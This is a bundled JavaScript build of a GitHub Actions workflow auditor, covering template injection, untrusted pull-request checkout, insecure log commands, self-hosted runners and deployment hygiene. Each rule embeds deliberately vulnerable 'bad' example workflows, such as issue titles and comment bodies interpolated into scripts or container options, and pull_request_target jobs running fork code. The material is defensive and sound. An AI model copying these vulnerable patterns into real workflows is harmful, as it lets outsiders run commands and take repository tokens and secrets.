    remedy: 'Hand the value over in `env:` and use the variable in the script, in quotes; choose images, options and shells from a list.',
    controls: controls/* controls */.n.input,
    risks: risks/* risks */.X.poisoned,
    references: [
        'https://docs.zizmor.sh/audits/#template-injection',
        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
    ],
    on: ['file'],
    *check(document, context) {
        const told = new Set();
        const flows = flowsOf(context);
        const fixOf = environmentFixes(toldTogether(flows, context), context);
        for (const flow of flows) {
            if (flow.kind === 'runtime' && flow.role !== undefined)
                yield flowProblem(flow, `\`${flow.what.slice(0, 100)}\` ${flow.role.becomes}`, flow.role.harm);
            if (flow.kind !== 'template' || flow.template === undefined)
                continue;
            told.add(flow.at.start);
            const { scalar, index, input } = flow.template;
            yield {
                ...flowProblem(flow, `\`${flow.what.slice(0, 100)}\` becomes part of this script${staysIn(flow.step, scalar, index)}`, 'runs commands in this job'),
                fix: () => fixOf({ step: flow.step, scalar, index, input }),
            };
        }
        for (const step of (0,sites/* stepsIn */.FZ)(document))
            for (const code of codeOf(step))
                yield* template_injection_plain(step, code.scalar, code.input, told, fixOf, context);
    },
    examples: {
        bad: [
            {
                text: 'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
            },
            {
                text: "on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: console.log('${{ github.head_ref }}')\n",
            },
            {
                text: 'on: issue_comment\njobs:\n  read:\n    runs-on: ubuntu-latest\n    outputs:\n      text: ${{ steps.read.outputs.text }}\n    steps:\n      - id: read\n        env:\n          BODY: ${{ github.event.comment.body }}\n        run: echo "text=$BODY" >> "$GITHUB_OUTPUT"\n  use:\n    needs: read\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy ${{ needs.read.outputs.text }}\n',
            },
            {
                text: 'on: issue_comment\njobs:\n  run:\n    runs-on: ubuntu-latest\n    container:\n      image: debian:12\n      options: --name ${{ github.event.comment.body }}\n    steps:\n      - run: make test\n',
            },
            {
                text: 'on: issues\njobs:\n  read:\n    runs-on: windows-latest\n    steps:\n      - id: read\n        env:\n          TITLE: ${{ github.event.issue.title }}\n        run: |\n          "title=$env:TITLE" >> $env:GITHUB_OUTPUT\n      - run: Write-Output ${{ steps.read.outputs.title }}\n',
            },
        ],
        good: [
            {
                text: 'name: greet\non: issues\npermissions: {}\njobs:\n  greet:\n    name: greet\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"\n',
            },
            {
                text: 'name: read\non: issues\npermissions: {}\njobs:\n  read:\n    name: read\n    runs-on: windows-latest\n    steps:\n      - id: read\n        env:\n          TITLE: ${{ github.event.issue.title }}\n        run: |\n          "title=$env:TITLE" >> $env:GITHUB_OUTPUT\n      - env:\n          TITLE: ${{ steps.read.outputs.title }}\n        run: Write-Output "$env:TITLE"\n',
            },
        ],
    },
});
/** Which expressions of a script are told of, by their order. */
function toldTogether(flows, { settings }) {
    const outside = new Map();
    for (const { kind, template } of flows) {
        if (kind !== 'template' || template === undefined)
            continue;
        const own = outside.get(template.scalar) ?? new Set();
        outside.set(template.scalar, own.add(template.index));
    }
    return (scalar) => {
        const own = outside.get(scalar) ?? new Set();
        if (settings.persona === 'regular')
            return [...own].sort((a, b) => a - b);
        return (0,find/* expressionsIn */.l)(scalar.text).flatMap(({ text }, index) => (own.has(index) || readsContext(text) ? [index] : []));
    };
}
/** Expressions whose value nobody outside is known to control: good style only. */
function* template_injection_plain(step, scalar, input, told, fixOf, context) {
    if (!scalar.text.includes('${{'))
        return;
    for (const [index, { inner, text }] of (0,find/* expressionsIn */.l)(scalar.text).entries()) {
        const tree = (0,parse/* parseExpression */.YK)(text);
        if (tree.kind === 'mistake')
            continue;
        const at = context.placeIn(scalar, inner.start + tree.span.start, inner.start + tree.span.end);
        if (told.has(at.start))
            continue;
        const what = `\`${text.trim().slice(0, 100)}\` becomes part of this script${staysIn(step, scalar, index)}`;
        yield {
            at,
            statement: step.map.at,
            severity: 'low',
            persona: 'pedantic',
            ...(readsContext(text)
                ? {
                    message: `${what}; nobody outside is known to control it`,
                    fix: () => fixOf({ step, scalar, index, input }),
                }
                : { message: `${what}, which could say itself what nobody controls` }),
        };
    }
}
/** What would still do harm with a value that is handed over in a variable, so that moving it is not enough. */
function staysIn(step, scalar, index) {
    const script = step.run === scalar ? (0,step_script/* stepScript */.M)(step) : undefined;
    const sink = script === undefined ? undefined : scriptSinks(script.facts).find(({ behind }) => behind?.has(index) === true);
    if (sink === undefined)
        return '';
    if (sink.kind === 'request')
        return `, and says which host \`${sink.what}\` asks, from a variable too`;
    return `, and \`${sink.what}\` takes it for ${sink.kind === 'eval' ? 'code' : 'options'} from a variable too`;
}
function readsContext(text) {
    const tree = (0,parse/* parseExpression */.YK)(text);
    if (tree.kind === 'mistake')
        return false;
    return (0,expression_tree/* allParts */.C)(tree).some((node) => {
        const way = (0,paths/* wayOf */.VO)(node);
        return way !== undefined && (0,paths/* showWay */.VR)(way) !== '';
    });
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/untrusted-checkout.js
// An outsider's code in the workspace of a job that has rights, and what runs it.






const untrusted_checkout_references = [
    'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/',
    'https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#pull_request_target',
];
const badCheckout = 'on: pull_request_target\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n';
const good = 'name: test\non: pull_request\npermissions:\n  contents: read # to check out\njobs:\n  test:\n    name: test\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n      - run: make test\n';
const untrustedCheckoutExecution = (0,src_rule/* audit */.s)({
    id: 'untrusted-checkout-execution',
    aliases: ['untrusted_checkout_exec', 'untrusted-checkout-critical', 'dangerous-checkout'],
    severity: 'critical',
    confidence: 'high',
    title: 'Code of a pull request runs with the repository\u2019s rights',
    why: 'Whoever opens the pull request writes the scripts, hooks and settings that this step runs, and so takes the job\u2019s token and secrets.',
    remedy: 'Run it on `pull_request`, where forks have no rights, and hand only results to a job with rights.',
    controls: controls/* controls */.n.input,
    risks: risks/* risks */.X.poisoned,
    references: untrusted_checkout_references,
    on: ['file'],
    *check(_, context) {
        for (const flow of flowsOf(context))
            if (flow.kind === 'execution' && isForeign(flow))
                yield flowProblem(flow, `\`${flow.what.slice(0, 100)}\` runs code of \`${flow.taint.source.name}\``, flow.contained === true
                    ? 'runs commands in the containers of this build, and decides what it makes, in a job'
                    : 'runs commands in this job');
    },
    examples: { bad: [{ text: `${badCheckout}      - run: make test\n` }], good: [{ text: good }] },
});
const untrustedCheckout = (0,src_rule/* audit */.s)({
    id: 'untrusted-checkout',
    aliases: ['untrusted-checkout-high', 'untrusted-checkout-toctou-high'],
    severity: 'high',
    confidence: 'medium',
    title: 'Code of a pull request is checked out in a job with rights',
    why: 'Whatever in this job reads settings, hooks or scripts from the workspace does what whoever opened the pull request wrote there.',
    remedy: 'Check out the base, or run on `pull_request`, where forks have no rights; keep what is checked out in a folder of its own and run nothing of it.',
    controls: controls/* controls */.n.input,
    risks: risks/* risks */.X.poisoned,
    references: untrusted_checkout_references,
    on: ['file'],
    *check(_, context) {
        const flows = flowsOf(context);
        const { foreign } = analysisOf(context.repository, context.settings.persona !== 'regular');
        const mayRun = (flow) => foreign.of(flow.run).some((entry) => entry.kind === 'checkout' && mayBeRun(entry));
        const executed = new Set(flows.filter(({ kind }) => kind === 'execution').map(({ run }) => run.job));
        for (const flow of flows)
            if (flow.kind === 'checkout' && isForeign(flow) && !executed.has(flow.run.job))
                yield {
                    ...flowProblem(flow, `\`${flow.taint.source.name}\` is checked out here`, `puts files of their own into this job${mayRun(flow) ? '' : ', in which nothing is seen that runs them'}`),
                    // In a folder of its own, and nothing in this job runs it: what the remedy asks for.
                    severity: (0,parts/* inputText */.AN)(flow.step, 'path') !== undefined
                        ? lower(lower(flow.severity))
                        : mayRun(flow)
                            ? lower(flow.severity)
                            : atMostMedium(lower(flow.severity)),
                };
    },
    examples: { bad: [{ text: badCheckout }], good: [{ text: good }] },
});

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/injection/index.js
// What an outsider controls, where it is executed.











const injectionRules = [
    templateInjection,
    shellEvalInjection,
    argumentInjection,
    githubEnv,
    outputClobbering,
    requestForgery,
    untrustedCheckoutExecution,
    untrustedCheckout,
    artifactPoisoning,
    cachePoisoning,
    aiPromptInjection,
    aiAgentOpen,
    remoteScriptExecution,
    reverseShell,
];

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/operations/anonymous-definition.js
// Workflows, actions and jobs without a name.



const anonymousDefinition = (0,src_rule/* audit */.s)({
    id: 'anonymous-definition',
    severity: 'low',
    confidence: 'high',
    persona: 'pedantic',
    title: 'A workflow, action or job has no name',
    why: 'Runs appear under a path or an id, where it is hard to see which of them did something.',
    remedy: 'Give it a `name:`.',
    controls: controls/* controls */.n.audit,
    risks: risks/* risks */.X.visibility,
    references: ['https://docs.zizmor.sh/audits/#anonymous-definition'],
    on: ['workflow', 'action', 'job'],
    *check(part) {
        if (part.name !== undefined)
            return;
        // A call appears under the names of the jobs that it leads to.
        if (part.kind === 'job' && part.uses !== undefined)
            return;
        if (part.kind === 'job')
            yield { at: part.key.at, statement: part.map.at, message: `The job \`${part.id}\` has no name` };
        else
            yield { at: part.root.at, message: `This ${part.kind} has no name` };
    },
    examples: {
        bad: [
            {
                text: 'on: push\npermissions: {}\njobs:\n  test:\n    name: test\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make test\n',
            },
            { text: 'name: test\non: push\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make test\n' },
            { path: 'action.yml', text: 'description: Builds.\nruns:\n  using: composite\n  steps:\n    - run: make\n      shell: bash\n' },
        ],
        good: [(0,example/* workflowExample */.ih)({})],
    },
});

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/operations/artifact-retention.js
// Artifacts whose life nobody decided.






/** What GitHub does where nothing is said. */
const usual = 90;
const artifactRetention = (0,src_rule/* audit */.s)({
    id: 'artifact-retention',
    severity: 'low',
    confidence: 'high',
    persona: 'pedantic',
    title: 'Nobody decided how long an artifact is kept',
    why: 'Evidence of a release may be gone when it is asked for, and what should not lie around does, as a setting of the repository has it.',
    remedy: 'Say `retention-days`: long for evidence, short for what only the next job needs.',
    controls: controls/* controls */.n.audit,
    risks: risks/* risks */.X.visibility,
    references: ['https://github.com/actions/upload-artifact#retention-period'],
    on: ['action-step'],
    *check(step, context) {
        if ((0,parts/* actionName */.aM)(step) !== 'actions/upload-artifact' || (0,parts/* inputOf */.wg)(step, 'retention-days') !== undefined || step.uses === undefined)
            return;
        yield {
            at: step.uses.scalar.at,
            statement: step.map.at,
            message: 'The artifact is kept as long as the repository\u2019s setting says',
            fix: () => kept(step, context),
        };
    },
    examples: {
        bad: [(0,example/* stepsExample */.Y6)(`- uses: actions/upload-artifact@${example/* commit */.cd} # v4.6.2\n  with:\n    path: dist`)],
        good: [(0,example/* stepsExample */.Y6)(`- uses: actions/upload-artifact@${example/* commit */.cd} # v4.6.2\n  with:\n    path: dist\n    retention-days: 7`)],
    },
});
/** The first releases knew no such input. */
function kept(step, { file }) {
    const target = step.uses?.target;
    if (target?.kind === 'repository' && (0,actions.actionFace)(target)?.inputs.has('retention-days') === false)
        return undefined;
    const edits = (0,src_edits.addEntries)(file, step.map, 'with', [['retention-days', String(usual)]], { after: 'uses' });
    return edits === undefined ? undefined : { description: `Keep it ${usual} days`, kind: 'suggested', edits };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/operations/concurrency-limits.js
// Runs of one workflow that pile up.





const concurrencyLimits = (0,src_rule/* audit */.s)({
    id: 'concurrency-limits',
    severity: 'low',
    confidence: 'high',
    persona: 'pedantic',
    title: 'Runs of a workflow are not limited',
    why: 'Outdated runs go on beside new ones: they cost minutes, and two deployments at a time may leave a mixture.',
    remedy: 'Set `concurrency` with a group and say with `cancel-in-progress` what becomes of a run that is under way.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.configuration,
    references: [
        'https://docs.zizmor.sh/audits/#concurrency-limits',
        'https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/control-the-concurrency-of-workflows-and-jobs',
    ],
    on: ['workflow'],
    *check(workflow, context) {
        // A reusable workflow runs as part of its caller's.
        if (workflow.triggers.length === 1 && workflow.triggers[0]?.name === 'workflow_call')
            return;
        const { concurrency } = workflow;
        if (concurrency === undefined)
            yield* withoutLimits(workflow, context);
        else if (concurrency.cancelInProgress === undefined)
            yield {
                at: (0,src_context/* placeOfEntry */.h$)(concurrency.key, concurrency.value),
                message: 'The workflow does not say whether a new run ends the one under way',
                fix: () => sayWhether(concurrency, context),
            };
    },
    examples: {
        bad: [
            {
                text: 'name: test\non: push\npermissions: {}\njobs:\n  test:\n    name: test\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make test\n',
            },
            {
                text: 'name: test\non: push\npermissions: {}\nconcurrency: test # one at a time\njobs:\n  test:\n    name: test\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make test\n',
            },
            {
                text: 'name: test\non: push\npermissions: {}\nconcurrency:\n  group: test\njobs:\n  test:\n    name: test\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make test\n',
            },
        ],
        good: [(0,example/* workflowExample */.ih)({})],
    },
});
/** Jobs may have limits of their own. */
function* withoutLimits(workflow, context) {
    // What a call leads to may have limits of its own.
    const open = workflow.jobs.filter(({ concurrency, uses }) => concurrency === undefined && uses === undefined);
    const vague = workflow.jobs.filter(({ concurrency }) => concurrency !== undefined && concurrency.cancelInProgress === undefined);
    const entry = workflow.root.entries.find(({ key }) => key === workflow.on);
    const at = entry === undefined ? workflow.root.at : (0,src_context/* placeOfEntry */.h$)(entry.key, entry.value);
    if (open.length > 0)
        yield {
            at,
            message: 'The workflow has no `concurrency`',
            related: open.slice(0, 20).map((job) => ({ at: job.key.at, message: `The job \`${job.id}\` has none either.` })),
            fix: () => limit(workflow, context),
        };
    if (vague.length > 0)
        yield {
            at: open.length > 0 ? at : (0,src_context/* placeOfEntry */.h$)(vague[0].key, vague[0].key),
            message: 'Jobs do not say whether a new run ends the one under way',
            related: vague.slice(0, 20).map((job) => ({ at: job.key.at, message: `The job \`${job.id}\` does not say.` })),
        };
}
/** Waiting, and not ending, is what changes least. */
function limit({ root, jobs }, { file }) {
    if (jobs.some(({ concurrency }) => concurrency !== undefined))
        return undefined;
    const group = '  group: ${{ github.workflow }}-${{ github.ref }}';
    // Before `jobs` stands what other audits add.
    const lines = ['concurrency:', group, '  cancel-in-progress: false'];
    const edits = (0,src_edits/* addKey */.Fx)(file, root, lines, { after: 'on' }) ?? (0,src_edits/* addKey */.Fx)(file, root, lines, { before: 'jobs' });
    return edits === undefined ? undefined : { description: 'Let one run of a branch go on at a time', kind: 'suggested', edits };
}
function sayWhether(concurrency, { file }) {
    const { key, value } = concurrency;
    const description = 'Say that the run under way goes on';
    const space = (0,src_edits/* indentationAt */.pi)(file, key.at.start);
    const end = (0,src_edits/* lineEnd */.kd)(file);
    if (value.alias !== undefined)
        return undefined;
    if (value.kind === 'map') {
        const group = value.entries.find(({ name }) => name === 'group');
        if ((0,src_edits/* isFlow */.Td)(file, value) || group?.value.kind !== 'scalar' || group.value.alias !== undefined)
            return undefined;
        const edits = (0,src_edits/* addKey */.Fx)(file, value, ['cancel-in-progress: false'], { after: 'group' });
        return edits === undefined ? undefined : { description, edits };
    }
    if (value.kind !== 'scalar' || value.style === 'literal' || value.style === 'folded')
        return undefined;
    const text = file.text.slice(key.at.end, (0,src_edits/* lineEndAt */.fT)(file, value.at.end));
    const [, group] = /^:[ \t]{1,20}(\S[^\n]{0,500})$/.exec(text) ?? [];
    if (group === undefined)
        return undefined;
    return {
        description,
        edits: [
            {
                start: key.at.end,
                end: key.at.end + text.length,
                replacement: `:${end}${space}  group: ${group}${end}${space}  cancel-in-progress: false`,
            },
        ],
    };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/operations/deployment-without-environment.js
// Deployments that no rule of an environment stands before.




/** Clusters that a job makes for itself are tests. */
const ephemeral = /\b(?:kind|minikube|k3d|k3s|microk8s|localstack)\b/i;
const deploymentWithoutEnvironment = (0,src_rule/* audit */.s)({
    id: 'deployment-without-environment',
    severity: 'low',
    confidence: 'medium',
    title: 'A job deploys without an environment',
    why: 'Nobody has to approve it, any branch may do it, and there is no record of what was deployed when.',
    remedy: 'Name an `environment:` at the job, with reviewers and the branches that may deploy.',
    controls: controls/* controls */.n.change,
    risks: risks/* risks */.X.flow,
    references: ['https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/using-environments-for-deployment'],
    on: ['job'],
    *check(job, context) {
        // What a reusable workflow deploys, its caller's environment may guard; a test cluster is nobody's.
        if (job.environment !== undefined || job.workflow.call !== undefined || isOfTest(job.workflow.triggers.map(({ name }) => name)))
            return;
        if (job.steps.some((step) => ephemeral.test(`${step.uses?.text ?? ''} ${step.run?.text.slice(0, 20_000) ?? ''}`)))
            return;
        for (const step of job.steps) {
            const found = deployment(step, context);
            if (found === undefined)
                continue;
            yield {
                at: job.key.at,
                statement: job.map.at,
                message: `\`${job.id}\` deploys by \`${found.by}\` and has no environment`,
                related: [{ at: (step.uses?.scalar ?? step.run ?? job.key).at, message: 'This deploys.' }],
            };
            return;
        }
    },
    examples: {
        bad: [
            (0,example/* stepsExample */.Y6)('- run: kubectl apply -f app.yaml'),
            (0,example/* stepsExample */.Y6)('- run: |\n    terraform init\n    terraform apply -auto-approve'),
        ],
        good: [
            (0,example/* stepsExample */.Y6)('- run: kubectl apply -f app.yaml', 'environment: production'),
            (0,example/* stepsExample */.Y6)('- run: terraform plan\n- run: kubectl apply --dry-run=server -f app.yaml'),
            (0,example/* stepsExample */.Y6)('- run: kind create cluster\n- run: kubectl apply -f app.yaml'),
        ],
    },
});
function isOfTest(triggers) {
    return triggers.length > 0 && triggers.every((name) => name === 'pull_request' || name === 'merge_group');
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/operations/insecure-commands.js
// Workflow commands in the log that set variables and paths: switched off since 2020, and on again.





const variable = 'ACTIONS_ALLOW_UNSECURE_COMMANDS';
const insecureCommands = (0,src_rule/* audit */.s)({
    id: 'insecure-commands',
    aliases: ['unsecure-commands', 'unsecure-commands-allowed'],
    severity: 'high',
    confidence: 'high',
    title: 'Lines of the log may set variables and paths again',
    why: 'Whoever gets a line into the log, by a file name or a commit message, sets variables of later steps and runs code in them.',
    remedy: `Remove \`${variable}\` and write to the files that \`GITHUB_ENV\` and \`GITHUB_PATH\` name.`,
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.poisoned,
    references: [
        'https://docs.zizmor.sh/audits/#insecure-commands',
        'https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/',
    ],
    on: ['workflow', 'job', 'step'],
    only: (part) => (part.kind === 'workflow' ? part.root : part.map).entries.some(({ name }) => name === 'env'),
    *check(part, context) {
        const map = part.kind === 'workflow' ? part.root : part.map;
        const at = (0,parts/* placeOfKey */.qQ)(map, 'env');
        if (at === undefined)
            return;
        const found = part.env.find(({ name }) => name === variable);
        const statement = part.kind === 'workflow' ? at : map.at;
        if (found !== undefined && isOn(found))
            yield {
                at,
                statement,
                message: `\`${variable}\` is on: what is printed can set variables and paths`,
                fix: () => withoutVariable(part, map, context),
            };
        else if (insecure_commands_isWhole(map) || (0,parts/* isExpression */.BH)(found?.scalar?.text))
            yield {
                at,
                statement,
                confidence: 'low',
                persona: 'auditor',
                message: `Whether \`${variable}\` is on is decided by an expression`,
            };
    },
    examples: {
        bad: [
            (0,example/* workflowExample */.ih)({ top: `env:\n  ${variable}: true` }),
            (0,example/* workflowExample */.ih)({ job: `env:\n  ${variable}: 'true'\n  CI: 1` }),
            (0,example/* stepsExample */.Y6)(`- run: make\n  env:\n    CI: 1\n    ${variable}: 1`),
            (0,example/* workflowExample */.ih)({ job: 'env: ${{ fromJSON(vars.ENVIRONMENT) }}' }),
        ],
        good: [(0,example/* stepsExample */.Y6)(`- run: make\n  env:\n    ${variable}: false`), (0,example/* stepsExample */.Y6)('- run: make\n  env:\n    CI: 1')],
    },
});
/** The words that the runner takes for yes (actions/runner, StringUtil.ConvertToBoolean). */
function isOn({ scalar }) {
    return /^(?:1|true|\$true)$/i.test(scalar?.text.trim() ?? '');
}
/** An `env:` that an expression makes. */
function insecure_commands_isWhole(map) {
    const value = (0,parts/* entryOf */.Ms)(map, 'env')?.value;
    return value?.kind === 'scalar' && (0,parts/* isExpression */.BH)(value.text);
}
function withoutVariable(part, map, { file }) {
    const env = (0,parts/* entryOf */.Ms)(map, 'env')?.value;
    if (env?.kind !== 'map' || env.alias !== undefined)
        return undefined;
    const edits = part.env.length === 1 ? (0,src_edits/* removeKey */.yE)(file, map, 'env') : (0,src_edits/* removeKey */.yE)(file, env, variable);
    return edits === undefined ? undefined : { description: `Remove \`${variable}\``, kind: 'suggested', edits };
}

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/matrix.js
var src_matrix = __webpack_require__(5507);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/operations/self-hosted-runner.js
// Jobs on machines of one's own.








const selfHostedRunner = (0,src_rule/* audit */.s)({
    id: 'self-hosted-runner',
    aliases: ['pr_runs_on_self_hosted'],
    severity: 'medium',
    confidence: 'high',
    title: 'A job runs on a machine of one\u2019s own',
    why: 'Such a machine is seldom new for each job: what one run leaves behind, the next one meets, and the network around it is yours.',
    remedy: 'Use runners that are made for one job and thrown away, never for pull requests of strangers.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.configuration,
    references: [
        'https://docs.zizmor.sh/audits/#self-hosted-runner',
        'https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security',
    ],
    on: ['job'],
    *check(job, { repository }) {
        const { runsOn } = job;
        if (runsOn === undefined)
            return;
        const at = (0,src_context/* placeOfEntry */.h$)(runsOn.key, runsOn.value);
        const statement = job.map.at;
        // Whoever lets strangers start such a job is told without asking.
        const open = strangersEvent(job, repository);
        const persona = open === undefined ? { persona: 'auditor' } : { severity: 'high', confidence: 'medium' };
        const stranger = open === undefined ? '' : `, and \`${open}\` lets strangers start it`;
        if (runsOn.group !== undefined)
            yield {
                at,
                statement,
                persona: 'auditor',
                message: `The job runs on the runners of the group \`${runsOn.group.text.slice(0, 60)}\``,
            };
        else if (runsOn.labels.some(isOwn))
            yield { at, statement, message: `The job runs on a machine of one\u2019s own${stranger}`, ...persona };
        else {
            const place = fromMatrix(job);
            const chosen = runsOn.labels.some(({ text }) => text.includes('${{') && /['"]self-hosted['"]/i.test(text));
            // Most such choices depend on whose repository it is.
            if (chosen)
                yield { at, statement, message: 'An expression may put the job on a machine of one\u2019s own', persona: 'auditor' };
            else if (place !== undefined)
                yield {
                    at,
                    statement,
                    message: `A value of the matrix puts the job on a machine of one\u2019s own${stranger}`,
                    related: [{ at: place.at, message: 'This value does.' }],
                    ...persona,
                };
        }
    },
    examples: {
        bad: [
            (0,example/* workflowExample */.ih)({ job: 'runs-on: [self-hosted, linux]' }),
            (0,example/* workflowExample */.ih)({ job: 'runs-on:\n  group: builders' }),
            (0,example/* workflowExample */.ih)({ job: 'strategy:\n  matrix:\n    os: [ubuntu-24.04, self-hosted]\nruns-on: ${{ matrix.os }}' }),
            (0,example/* workflowExample */.ih)({ job: "runs-on: ${{ github.ref == 'refs/heads/main' && 'self-hosted' || 'ubuntu-24.04' }}" }),
            (0,example/* workflowExample */.ih)({ on: 'on: pull_request', job: 'runs-on: self-hosted' }),
        ],
        good: [(0,example/* workflowExample */.ih)({}), (0,example/* workflowExample */.ih)({ job: 'strategy:\n  matrix:\n    os: [ubuntu-24.04]\nruns-on: ${{ matrix.os }}' })],
    },
});
const forStrangers = new Set(['pull_request', 'pull_request_target', 'issue_comment', 'issues', 'discussion']);
/** An event by which somebody without rights gets to the job, whatever its conditions. */
function strangersEvent(job, repository) {
    for (const run of jobsRunning((0,graph_runs.runsOf)(repository), job))
        for (const event of (0,graph_reach.eventsOf)(run))
            if (forStrangers.has(event) && (0,graph_reach.reachOfJob)(run, event, 'code') === 'alone')
                return event;
    return undefined;
}

function fromMatrix(job) {
    for (const { text } of job.runsOn?.labels ?? []) {
        const found = (0,src_matrix/* matrixValues */.Q)(job, text).find(isOwn);
        if (found !== undefined)
            return found;
    }
    return undefined;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/operations/silenced-deployment.js
// Deployments of which the log shows nothing.





const silencedDeployment = (0,src_rule/* audit */.s)({
    id: 'silenced-deployment',
    severity: 'low',
    confidence: 'high',
    title: 'The log shows nothing of a deployment',
    why: 'When something went wrong, or somebody did something, there is nothing to look at.',
    remedy: 'Let the command write to the log, and hide single values with `::add-mask::`.',
    controls: controls/* controls */.n.audit,
    risks: risks/* risks */.X.visibility,
    references: ['https://docs.github.com/en/actions/monitoring-and-troubleshooting-workflows/monitoring-workflows/using-workflow-run-logs'],
    on: ['script-step'],
    *check(step, context) {
        const script = (0,src_script/* scriptOf */.YI)(step, context);
        if (script === undefined)
            return;
        for (const invocation of (0,src_script/* invocationsIn */.J3)(script)) {
            if (!isDeployCommand(invocation) || !isSilent(invocation.command.node))
                continue;
            yield {
                at: script.place(invocation.command.node),
                statement: step.map.at,
                message: `What \`${invocation.name}\` says goes to \`/dev/null\``,
            };
        }
    },
    examples: {
        bad: [(0,example/* stepsExample */.Y6)('- run: helm upgrade app ./chart > /dev/null 2>&1', 'environment: production')],
        good: [(0,example/* stepsExample */.Y6)('- run: helm upgrade app ./chart | tee deploy.log', 'environment: production')],
    },
});
function isSilent({ redirects }) {
    return redirects.some(({ operator, target }) => /^(?:1|&)?>{1,2}&?$/.test(operator) && target?.literal === '/dev/null');
}

// EXTERNAL MODULE: ./build/bundled/packages/engines/workflow-audit/src/graph/environments.js
var environments = __webpack_require__(4337);
;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/operations/unsound-environment.js
// An environment that is none: its name is the text of an expression, or nothing at all.











const unsoundEnvironment = (0,src_rule/* audit */.s)({
    id: 'unsound-environment',
    severity: 'high',
    confidence: 'high',
    title: 'An environment that protects nothing',
    why: 'GitHub makes an environment that it does not know at once and without rules, and an empty name is none: nobody approves, and every branch may deploy.',
    remedy: 'Put the expression into `${{ }}`, or name the environment whose rules are meant.',
    controls: controls/* controls */.n.change,
    risks: risks/* risks */.X.flow,
    references: ['https://docs.github.com/en/actions/how-tos/deploy/configure-and-manage-deployments/manage-environments'],
    on: ['job'],
    only: ({ environment }) => environment !== undefined,
    *check(job, context) {
        const { environment } = job;
        if (environment === undefined)
            return;
        const { key, name } = environment;
        const reason = (0,environments/* noEnvironment */.De)(environment);
        if (reason === undefined) {
            // Where an outsider finds nothing, an environment by their branch is there to show it.
            if (name !== undefined && unsound_environment_isOpen(job, environment, context.repository))
                yield {
                    statement: job.map.at,
                    at: name.at,
                    message: 'Whoever sets the run off names the environment, and may name one without rules',
                };
            return;
        }
        const problem = {
            statement: job.map.at,
            ...(needsGuard(job, context.repository) ? {} : { severity: 'medium' }),
        };
        if (reason === 'empty' || name === undefined) {
            yield {
                ...problem,
                at: name === undefined || name.text === '' ? key.at : name.at,
                message: 'The name of the environment is empty in every run',
            };
            return;
        }
        const text = name.text.trim();
        yield {
            ...problem,
            at: name.at,
            message: `The environment is named "${text.slice(0, 80)}" literally: only within \`\${{ }}\` is an expression evaluated`,
            // In quotes of YAML or over several lines the text is not what stands in the file.
            fix: () => name.style === 'plain' && context.file.text.slice(name.at.start, name.at.end) === text
                ? (0,rule/* suggested */.Mf)((0,rule/* fix */.Up)('Put the expression into braces.', (0,rule/* replace */.HC)(name.at, `\${{ ${text} }}`)))
                : undefined,
        };
    },
    examples: {
        bad: [
            (0,example/* stepsExample */.Y6)('- run: kubectl apply -f app.yaml', 'environment: vars.TARGET'),
            (0,example/* stepsExample */.Y6)('- run: kubectl apply -f app.yaml', "environment:\n      name: github.ref == 'refs/heads/main' && 'production'"),
            (0,example/* stepsExample */.Y6)('- run: kubectl apply -f app.yaml', "environment: ${{ '' }}"),
            (0,example/* stepsExample */.Y6)('- run: kubectl apply -f app.yaml', 'environment: ""'),
            {
                text: 'on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    environment: ${{ github.head_ref }}\n    steps:\n      - run: ./deploy\n        env:\n          KEY: ${{ secrets.KEY }}\n',
            },
        ],
        good: [
            (0,example/* stepsExample */.Y6)('- run: kubectl apply -f app.yaml', 'environment: production'),
            (0,example/* stepsExample */.Y6)('- run: kubectl apply -f app.yaml', 'environment: example.org'),
            (0,example/* stepsExample */.Y6)('- run: kubectl apply -f app.yaml', 'environment: ${{ vars.TARGET }}'),
        ],
    },
});
/** Whether an outsider who names the environment gets to the job, and something is to be had there. */
